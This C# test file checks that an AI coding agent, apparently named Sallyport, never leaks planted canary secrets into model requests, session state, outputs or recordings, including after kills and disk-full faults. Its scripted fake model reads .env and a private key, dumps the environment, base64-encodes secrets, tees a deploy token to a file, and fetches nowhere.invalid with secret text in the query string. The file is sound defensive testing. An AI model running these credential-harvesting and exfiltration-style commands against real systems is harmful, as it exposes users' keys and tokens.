using System.Text;
using Sallyport.ModelServer;
using Sallyport.Tests.Traitor;

namespace Sallyport.Tests.Agent;

/// <summary>
/// Keys of twelve kinds in a repository, one more in the environment: the model reads, edits, writes back, prints and searches them,
/// and then every byte that was sent, kept or shown is searched for them.
/// </summary>
public sealed class BytesTests
{
    private const string Env = ".env", Config = "config/app.json", Pem = "deploy/id_ec";

    [Theory]
    [InlineData("anthropic", "off")]
    [InlineData("openai-chat", "off")]
    [InlineData("anthropic", "file")]
    public async Task No_byte_of_a_secret_is_sent_kept_or_shown(string wire, string encrypt)
    {
        await using var bench = await AgentBench.Start(wire, ModelScript.From(Play));
        bench.Settings($$"""{ "sessions": { "encrypt": "{{encrypt}}" } }""");
        var before = Furnish(bench);
        bench.Variables[Canaries.Variable.Name] = Canaries.Variable.Value;
        var record = Path.Combine(bench.Work, "..", "recording.jsonl");

        var ran = await bench.Prompt($"Look after the settings. My own key is {Canaries.Keys[0].Value}, do not lose it.", "--permission-mode", "open", "--output-format", "stream-json", "--record", record);
        Assert.True(ran.Exit == 0, ran.Error);
        var steps = bench.Model.Journal.Play.Count;
        Assert.True(steps > 8, $"only {steps} requests: {bench.Model.Journal.Play[^1].Text}");
        var again = await bench.Prompt("Once more, in short.", "--continue", "--permission-mode", "open");
        Assert.True(again.Exit == 0, again.Error);

        // What the model wrote back has every byte that it never saw.
        Assert.Equal(before[Env].Replace("\n", " # kept\n", StringComparison.Ordinal), bench.Read("copy.env"));
        Assert.True(before[Env] + "ADDED=1\n" == bench.Read(Env), $"{steps} requests\n{ran.Output}");
        Assert.Equal(before[Config].Replace("\"retries\": 3", "\"retries\": 4", StringComparison.Ordinal), bench.Read(Config));
        Assert.Equal(before[Pem], bench.Read("deploy/copy_ec"));

        AssertNowhere(bench, record, encrypt, ran, again);
    }

    [Theory]
    [InlineData("off")]
    [InlineData("file")]
    public async Task Neither_a_kill_nor_a_fault_of_ours_leaves_a_secret_behind(string encrypt)
    {
        for (var seed = 0; seed < 4; seed++)
        {
            await using var bench = await AgentBench.Start("anthropic", ModelScript.From(Play) with { Pacing = new Pacing(TimeSpan.FromMilliseconds(2), 2000, 9) });
            bench.Settings($$"""{ "sessions": { "encrypt": "{{encrypt}}" } }""");
            Furnish(bench);
            bench.Variables[Canaries.Variable.Name] = Canaries.Variable.Value;
            var record = Path.Combine(bench.Work, "..", "recording.jsonl");
            await using (var sally = bench.Talk("-p", "Look after the settings.", "--permission-mode", "open", "--output-format", "stream-json", "--record", record))
            {
                sally.EndInput();
                for (var i = 0; i <= 2 * seed; i++) await sally.Next("tool_result");
            }
            AssertNowhere(bench, record, encrypt);
        }

        // The disk is full in the middle of a run: the fault is met, told, and tells no secret.
        await using var broken = await AgentBench.Start("anthropic", ModelScript.From(Play));
        broken.Settings($$"""{ "sessions": { "encrypt": "{{encrypt}}" } }""");
        Furnish(broken);
        broken.Variables[Canaries.Variable.Name] = Canaries.Variable.Value;
        broken.Variables["DOTNET_EnableWriteXorExecute"] = "0";
        var failed = await broken.Through("trap '' XFSZ; ulimit -f 24; exec \"$@\"", "-p", "Look after the settings.", "--permission-mode", "open", "--output-format", "stream-json");
        Assert.True(failed.Exit is 1 && Directory.Exists(broken.State), $"{failed.Exit}: {failed.Error}");
        AssertNowhere(broken, "", encrypt, failed);
    }

    private static Dictionary<string, string> Furnish(AgentBench bench)
    {
        var values = Canaries.Keys.SkipLast(1).ToArray();
        var config = "{\n  \"service\": {\n" + string.Concat(values.Select(key => $"    \"{key.Name.ToLowerInvariant()}\": \"{key.Value}\",\n")) + "    \"retries\": 3\n  }\n}\n";
        var files = new Dictionary<string, string> { [Env] = Canaries.EnvFile, [Config] = config, [Pem] = Canaries.Keys[^1].Value };
        foreach (var (name, content) in files) bench.Write(name, content);
        return files;
    }

    // What the model does next, by what it is shown: it can only work with what it reads.
    private static Step Play(Asked asked)
    {
        var done = asked.Turns.Count(turn => turn.Assistant);
        var results = asked.Turns.SelectMany(turn => turn.Results).Take(3).Select(result => Shown(result.Text)).ToArray();
        if (asked.LastText.Contains("Once more", StringComparison.Ordinal)) return new Step("In short: " + results[0]);
        switch (done)
        {
            case 0: return new Step("I read the settings first.", new ScriptedCall("read", $$"""{"path":"{{Env}}"}"""), new ScriptedCall("read", $$"""{"path":"{{Config}}"}"""), new ScriptedCall("read", $$"""{"path":"{{Pem}}"}"""));
            case 1:
                var env = results[0];
                return new Step("They say:\n" + env, Call("write", ("path", "copy.env"), ("content", env.Replace("\n", " # kept\n", StringComparison.Ordinal)))) { Thinking = "So this is what is in it: " + env };
            case 2: return new Step("", Call("edit", ("path", Config), ("old", "\"retries\": 3"), ("new", "\"retries\": 4")));
            case 3: return new Step("", Call("write", ("path", "deploy/copy_ec"), ("content", results[2])));
            case 4: return new Step("", Call("bash", ("command", $"cat {Env}; cat {Config} | tr -d ' '; env; base64 -w0 {Env}; echo; rev {Env}; xxd -p {Pem} | head -3")));
            case 5: return new Step("", Call("grep", ("pattern", "=|key|token|KEY"), ("path", ".")), Call("glob", ("pattern", "**/*")), Call("list", ("path", ".")));
            case 6: return new Step("", Call("bash", ("command", $"echo ADDED=1 >> {Env}; for i in $(seq 1 400); do cat {Env}; done")));
            case 7: return new Step("", Call("bash", ("command", "echo \"$DEPLOY_TOKEN\" | tee token.txt; printf '%s' \"$DEPLOY_TOKEN\" | head -c 20; false")));
            case 8: return new Step("", Call("read", ("path", "missing-" + results[0].Split('\n')[0])), Call("todo_that_is_none", ("text", results[0])));
            case 9: return new Step("", Call("web_fetch", ("url", "http://nowhere.invalid/?q=" + Uri.EscapeDataString(results[0].Split('\n')[0]))));
            default: return new Step("All is kept:\n" + results[0]);
        }
    }

    // A file as read shows it, without the numbers of its lines.
    private static string Shown(string page) =>
        string.Concat(page.Split('\n').Where(line => line.IndexOf('|') is > 0 and var bar && line[..bar].Trim().All(char.IsAsciiDigit)).Select(line => line[(line.IndexOf('|') + 1)..] + "\n"));

    private static ScriptedCall Call(string tool, params (string Name, string Value)[] arguments)
    {
        var json = new StringBuilder("{");
        foreach (var (name, value) in arguments) json.Append(json.Length > 1 ? "," : "").Append(System.Text.Json.JsonSerializer.Serialize(name)).Append(':').Append(System.Text.Json.JsonSerializer.Serialize(value));
        return new ScriptedCall(tool, json.Append('}').ToString());
    }

    /// <summary>Raw bytes: of every request, every file of the state folder, both outputs and the recording; contents of checkpoints only where they are sealed.</summary>
    private static void AssertNowhere(AgentBench bench, string record, string encrypt, params RanSally[] runs)
    {
        var places = new List<(string Name, byte[] Bytes)>();
        foreach (var request in bench.Model.Journal.Entries) places.Add(($"request {request.Number}", request.Body.ToArray()));
        foreach (var file in Directory.EnumerateFiles(bench.State, "*", SearchOption.AllDirectories).Where(file => !file.EndsWith("lock", StringComparison.Ordinal)))
            if (encrypt != "off" || !file.Contains("/checkpoints/", StringComparison.Ordinal) || !Path.GetFileName(file).StartsWith("blobs-", StringComparison.Ordinal)) places.Add((file, Bytes(file)));
        if (File.Exists(record)) places.Add(("the recording", Bytes(record)));
        foreach (var run in runs) places.AddRange([("standard output", Encoding.UTF8.GetBytes(run.Output)), ("standard error", Encoding.UTF8.GetBytes(run.Error))]);
        Assert.Contains(places, place => place.Name.EndsWith(".jsonl", StringComparison.Ordinal));

        var found = new List<string>();
        foreach (var key in Canaries.Keys.Append(Canaries.Variable))
            foreach (var (form, bytes) in Forms(key))
                foreach (var (name, content) in places)
                    if (content.AsSpan().IndexOf(bytes) is >= 0 and var at) found.Add($"{key.Name} ({form}) in {name}: …{Encoding.UTF8.GetString(content, Math.Max(0, at - 60), Math.Min(60, at)).ReplaceLineEndings(" ")}");
        Assert.True(found.Count == 0, string.Join('\n', found.Take(20)));
    }

    // A process that was killed may not be gone yet.
    private static byte[] Bytes(string path)
    {
        using var file = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        using var all = new MemoryStream();
        file.CopyTo(all);
        return all.ToArray();
    }

    private static IEnumerable<(string Form, byte[] Bytes)> Forms(Canary key)
    {
        // A value of several lines comes line by line.
        var core = key.Core.Length > 60 ? key.Core[..60] : key.Core;
        var bytes = Encoding.UTF8.GetBytes(core);
        yield return ("plain", bytes);
        yield return ("a half of it", bytes[..(bytes.Length / 2 + 4)]);
        yield return ("its other half", bytes[(bytes.Length / 2 - 4)..]);
        yield return ("backwards", [.. bytes.Reverse()]);
        yield return ("hex", Encoding.ASCII.GetBytes(Convert.ToHexStringLower(bytes)));
        for (var shift = 0; shift < 3; shift++) yield return ("base64", Encoding.ASCII.GetBytes(Convert.ToBase64String([.. new byte[shift], .. bytes])[(shift == 0 ? 0 : 4)..^4]));
    }
}
